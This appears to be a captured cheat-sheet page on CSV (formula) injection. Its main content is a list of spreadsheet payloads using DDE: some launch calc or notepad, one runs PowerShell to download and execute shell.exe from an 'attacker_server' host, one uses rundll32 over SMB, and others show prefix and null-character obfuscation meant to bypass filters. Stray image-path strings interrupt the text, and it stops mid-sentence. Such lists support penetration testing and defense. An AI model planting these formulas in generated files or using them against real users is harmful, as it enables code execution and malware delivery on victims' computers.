Skip to content

CSV Injection

Many web applications allow the user to download content such as templates for invoices or user settings to a CSV file. Many users choose to open the CSV file in either Excel, Libre Office or Open Office. When a web application does not properly validate the contents of the CSV file, it could lead to contents of a cell or many cells being executed.


Basic exploit with Dynamic Data Exchange

# pop a calc
DDE ("cmd";"/C calc";"!A0")A0@SUM(1+1)*cmd|' /C calc'!A0
=2+5+cmd|' /C calc'!A0

# pop a notepad
=cmd|' /C notepad'!'A1'

# powershell download and execute
=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0

# msf smb delivery with rundll32
=cmd|'/c rundll32.exe \\\3\2\1.dll,0'!_xlbgnm.A1

# Prefix obfuscation and command chaining
=AAAA+BBBB-CCCC&"Hello"/12345&cmd|'/c calc.exe'!A
=cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A
+thespanishinquisition(cmd|'/c calc.exe'!A
=         cmd|'/c calc.exe'!A

# Using rundll32 instead of cmd
=rundll32|'URL.dll,OpenURL calc.exe'!A
=rundll321234567890abcdefghijklmnopqrstuvwxyz|'URL.dll,OpenURL calc.exe'!A

# Using null characters to bypass dictionary filters. Since they are not spaces, they are ignored when executed.
=    C    m D                    |        '/        c       c  al  c      .  e                  x       e  '   !   A

Technical Details of the above payload:

  • cmd is the name the server can respond to whenever a client is trying to access the server
  • /C calc is the file name which in our case is the calc(i.e the calc.exe)
  • !A0 is the item name that specifies unit of data that a servercan respond when the client is requesting the data

Anyformula can be started with